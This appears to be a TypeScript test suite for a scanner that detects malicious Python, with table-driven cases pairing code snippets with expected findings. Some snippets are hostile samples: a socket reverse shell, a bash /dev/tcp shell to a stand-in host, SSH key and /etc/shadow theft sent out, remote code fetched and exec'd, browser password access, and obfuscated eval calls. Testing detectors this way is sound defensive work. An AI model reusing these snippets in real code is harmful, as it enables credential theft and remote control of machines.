import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { ScanReport } from "./report.ts";
import { scanner } from "./scanner.ts";

/** The findings as `line severity category`, in the report's order. */
function found(code: string): string[] {
  const report: ScanReport = JSON.parse(scanner.scanCode(code));
  return report.findings.map(({ line, severity, category }) => `${line} ${severity} ${category}`);
}

type Case = readonly [name: string, code: string, findings: readonly string[]];

function table(cases: readonly Case[]): void {
  for (const [name, code, findings] of cases) {
    it(name, () => {
      assert.deepEqual(found(code), findings);
    });
  }
}

describe("what line matching takes for a problem is none", () => {
  table([
    ["an attribute called environment", "config.environment\nself.os.environment = 1", []],
    ["model.eval()", "model.eval()\nmodel.train(False)", []],
    ["a comment", '# os.environ["API_KEY"] and eval(x)\nx = 1  # exec(y)', []],
    ["a docstring", 'def f():\n    """Uses os.environ, eval(x) and https://webhook.site/x."""\n    return 1', []],
    ["socketserver", "import socketserver\nsocketserver.TCPServer", []],
    ["a method called exec", 'self.exec("x")\nregex.exec("y")', []],
    ["cursor.execute", 'cursor.execute("SELECT 1")', []],
    ["a string that mentions os.environ", "print(\"set os.environ['API_KEY'] first\")", []],
    ["a plain request", 'import requests\nrequests.get("https://api.example.com")', []],
    ["re.compile", 'import re\nre.compile("x")', []],
    ["a column expression", 'df.eval("a + b")', []],
    ["ast.literal_eval under another name", 'from ast import literal_eval as eval\neval("1")', []],
    ["a parameter called exec", 'def f(exec):\n    exec("x")', []],
    ["the home folder", 'import os\nhome = os.environ["HOME"]\nos.getenv("LANG")', []],
    ["a variable that is set", 'import os\nos.environ["FOO_KEY"] = "1"', []],
    ["a test for a variable", 'import os\nif "API_KEY" in os.environ:\n    pass', []],
    ["a service named in a sentence", 'print("Put it on pastebin.com or webhook.site.")', []],
    ["a local server", 'requests.get("http://127.0.0.1:8000/x")\nrequests.get("http://192.168.1.2/")', []],
    ["a hash in base64's alphabet", 'DIGEST = "d41d8cd98f00b204e9800998ecf8427e"', []],
    ["f-string formatting", 'f"{x!r:>{width}} {y:%Y-%m-%d} {z=}"', []],
  ]);
});

describe("what line matching misses is found", () => {
  table([
    ["from os import environ as e", "from os import environ as e", ["1 low api_exfiltration"]],
    [
      "a variable read through it",
      'from os import environ as e\nkey = e["API_KEY"]',
      ["1 low api_exfiltration", "2 high api_exfiltration"],
    ],
    ["a bare getenv", 'from os import getenv\nkey = getenv("API_KEY")', ["2 high api_exfiltration"]],
    ["import os, subprocess", "import os, subprocess", ["1 medium dangerous_imports"]],
    ["os.system", 'import os\nos.system("ls")', ["2 high dangerous_imports"]],
    [
      "a file that is posted",
      'import requests\nrequests.post("https://x.example.com", data=open("notes.txt"))',
      ["2 high api_exfiltration"],
    ],
    ["a concatenated host", 'url = "https://webhook." + "site/abc"', ["1 critical suspicious_network"]],
    ["an implicitly concatenated host", 'url = ("https://web"\n  "hook.site/abc")', ["2 critical suspicious_network"]],
    [
      "importlib.import_module",
      'import importlib\nm = importlib.import_module("subprocess")',
      ["2 high obfuscated_code"],
    ],
    ["import_module of a computed name", "importlib.import_module(name)", ["1 medium obfuscated_code"]],
    ["marshal", "import marshal\nmarshal.loads(x)", ["1 high dangerous_imports", "2 high dangerous_imports"]],
  ]);
});

describe("names are followed", () => {
  table([
    ["an alias of a module", 'import os as o\no.environ["TOKEN"]', ["2 high api_exfiltration"]],
    ["getattr with a built name", 'import os\ngetattr(os, "sys" + "tem")("id")', ["2 high dangerous_imports"]],
    ["an alias of a builtin", "run = exec\nrun(code)", ["1 high obfuscated_code", "2 high obfuscated_code"]],
    ["a builtin passed on", "list(map(eval, items))", ["1 high obfuscated_code"]],
    ["sys.modules", 'import sys\nsys.modules["os"].system("id")', ["2 high dangerous_imports"]],
    ["a module's dictionary", 'import os\nos.__dict__["system"]("id")', ["2 high dangerous_imports"]],
    ["builtins by name", 'b = __builtins__\nb["ev" + "al"]("1")', ["2 high obfuscated_code"]],
    ["a name spelt backwards", '__import__("so"[::-1]).getcwd()', ["1 high obfuscated_code"]],
    ["a name spelt in character codes", '__import__("".join(map(chr, [111, 115])))', ["1 high obfuscated_code"]],
    ["a call inside an f-string", "x = f\"{eval('1')}\"", ["1 high obfuscated_code"]],
    ["a call inside an f-string's f-string", 'x = f\'{f"{eval("1")}"}\'', ["1 high obfuscated_code"]],
    ["styled letters", '𝓮𝓿𝓪𝓵("1")', ["1 high obfuscated_code", "1 medium obfuscated_code"]],
    ["a star import", 'from os import *\nsystem("id")', ["1 low dangerous_imports", "2 high dangerous_imports"]],
    [
      "a module rebound to hide it",
      'import os\ndef f():\n    return os.environ["API_KEY"]\nos = None',
      ["3 high api_exfiltration"],
    ],
    ["a builtin hidden in dead code", 'if False:\n    def exec(x): pass\nexec("y")', ["3 high obfuscated_code"]],
    [
      "a method of that name elsewhere",
      'class A:\n    def eval(self): pass\n    def f(self):\n        eval("x")',
      ["4 high obfuscated_code"],
    ],
    ["a lambda", "f = lambda x: exec(x)", ["1 high obfuscated_code"]],
    ["a decorator", "@eval\ndef f(): pass", ["1 high obfuscated_code"]],
    ["a default argument", "def f(a=eval(b)):\n    pass", ["1 high obfuscated_code"]],
    ["a line continued in brackets", "x = [\n    1,\n    eval(y),\n]", ["3 high obfuscated_code"]],
    ["a line continued by a backslash", "x = 1 + \\\n  eval(y)", ["2 high obfuscated_code"]],
    ["statements on one line", "if a: b = 1; eval(c)", ["1 high obfuscated_code"]],
  ]);
});

describe("data is followed", () => {
  table([
    [
      "a secret in a request's body",
      'import os, requests\nkey = os.environ["API_KEY"]\nbody = {\n  "k": key,\n}\nrequests.post("https://x.example.com", json=body)',
      ["2 high api_exfiltration", "4 high api_exfiltration", "6 critical api_exfiltration"],
    ],
    [
      "a secret through functions",
      'import os, requests\ndef send(data):\n    requests.post("https://x.example.com", json=data)\ndef collect():\n    return dict(os.environ)\nsend(collect())',
      ["3 critical api_exfiltration", "5 high api_exfiltration"],
    ],
    [
      "a secret in an attribute",
      'import os, requests\nclass A:\n    def __init__(self):\n        self.key = os.getenv("A_TOKEN")\n    def go(self):\n        requests.post("https://x.example.com", data=self.key)',
      ["4 high api_exfiltration", "6 critical api_exfiltration"],
    ],
    [
      "a secret in a URL",
      'import os, requests\nk = os.getenv("A_TOKEN")\nrequests.get(f"https://x.example.com/?k={k}")',
      ["2 high api_exfiltration", "3 high api_exfiltration"],
    ],
    [
      "a secret used to log in",
      'import os, requests\nk = os.getenv("A_TOKEN")\nrequests.post("https://x.example.com", headers={"Authorization": f"Bearer {k}"}, json={})',
      ["2 high api_exfiltration", "3 low api_exfiltration"],
    ],
    [
      "a credential file that is read and sent",
      'import urllib.request\nfrom pathlib import Path\nkey = (Path.home() / ".ssh" / "id_rsa").read_text()\nurllib.request.urlopen("https://x.example.com", data=key.encode())',
      ["3 critical credential_access", "4 critical api_exfiltration"],
    ],
    [
      "a list of credential files",
      'for path in ["~/.netrc",\n  "/etc/passwd"]:\n    open(path)',
      ["1 low credential_access", "2 low credential_access", "3 high credential_access"],
    ],
    [
      "downloaded code",
      'import requests\ncode = requests.get("https://x.example.com/p").text\nexec(code)',
      ["3 critical obfuscated_code"],
    ],
    [
      "decoded code",
      "import base64, zlib\ncode = zlib.decompress(base64.b64decode(blob))\nexec(code)",
      ["2 high obfuscated_code", "3 critical obfuscated_code"],
    ],
    [
      "a length is not the data",
      'import os, requests\nrequests.post("https://x.example.com", json=len(os.environ["A_KEY"]))',
      ["2 high api_exfiltration"],
    ],
  ]);
});

describe("each category", () => {
  table([
    [
      "environment files",
      'from dotenv import load_dotenv\nload_dotenv()\nopen(".env").read()',
      ["1 medium api_exfiltration", "2 high api_exfiltration", "3 high api_exfiltration"],
    ],
    ["the whole environment", "import os\nx = dict(os.environ)", ["2 high api_exfiltration"]],
    ["an ordinary variable", 'import os\nos.getenv("MYAPP_MODE")', ["2 low api_exfiltration"]],
    ["a public address", 'u = "https://8.8.8.8/x"', ["1 high suspicious_network"]],
    [
      "a reverse shell",
      'import socket, os, pty\ns = socket.socket()\ns.connect(("203.0.113.5", 4444))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
      [
        "1 high dangerous_imports",
        "3 critical suspicious_network",
        "4 high dangerous_imports",
        "5 high dangerous_imports",
      ],
    ],
    ["password hashes", 'open("/etc/shadow")', ["1 critical credential_access"]],
    [
      "a browser's passwords",
      'import sqlite3, os\nsqlite3.connect(os.path.expanduser("~/.config/google-chrome/Default/Login Data"))',
      ["2 critical credential_access"],
    ],
    ["a keystroke logger", "from pynput import keyboard", ["1 high credential_access"]],
    [
      "code hidden in base64",
      'x = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="',
      ["1 high dangerous_imports", "1 high obfuscated_code"],
    ],
    ["text hidden in escapes", 'x = "\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73"', ["1 medium obfuscated_code"]],
    ["compile", 'compile(source, "f", "exec")', ["1 medium obfuscated_code"]],
    ["unpickling", "import pickle\npickle.loads(x)", ["1 medium dangerous_imports", "2 high dangerous_imports"]],
    [
      "a fixed command in a shell",
      'import subprocess\nsubprocess.run("ls", shell=True)',
      ["1 medium dangerous_imports", "2 medium dangerous_imports"],
    ],
    [
      "a command put together in a shell",
      'import subprocess\nsubprocess.run(f"ls {x}", shell=True)',
      ["1 medium dangerous_imports", "2 high dangerous_imports"],
    ],
    ["no shell", 'import subprocess\nsubprocess.run(["ls"], shell=False)', ["1 medium dangerous_imports"]],
    [
      "a shell script inside a command",
      'import subprocess\nsubprocess.run(["bash", "-c", "bash -i >& /dev/tcp/x.example.com/1 0>&1"])',
      ["1 medium dangerous_imports", "2 critical suspicious_network"],
    ],
    ["native code", 'import ctypes\nctypes.CDLL("x.so")', ["1 medium dangerous_imports", "2 high dangerous_imports"]],
    [
      "an unsafe YAML loader",
      "import yaml\nyaml.load(x, Loader=yaml.Loader)\nyaml.load(x, yaml.SafeLoader)",
      ["2 high dangerous_imports"],
    ],
  ]);
});
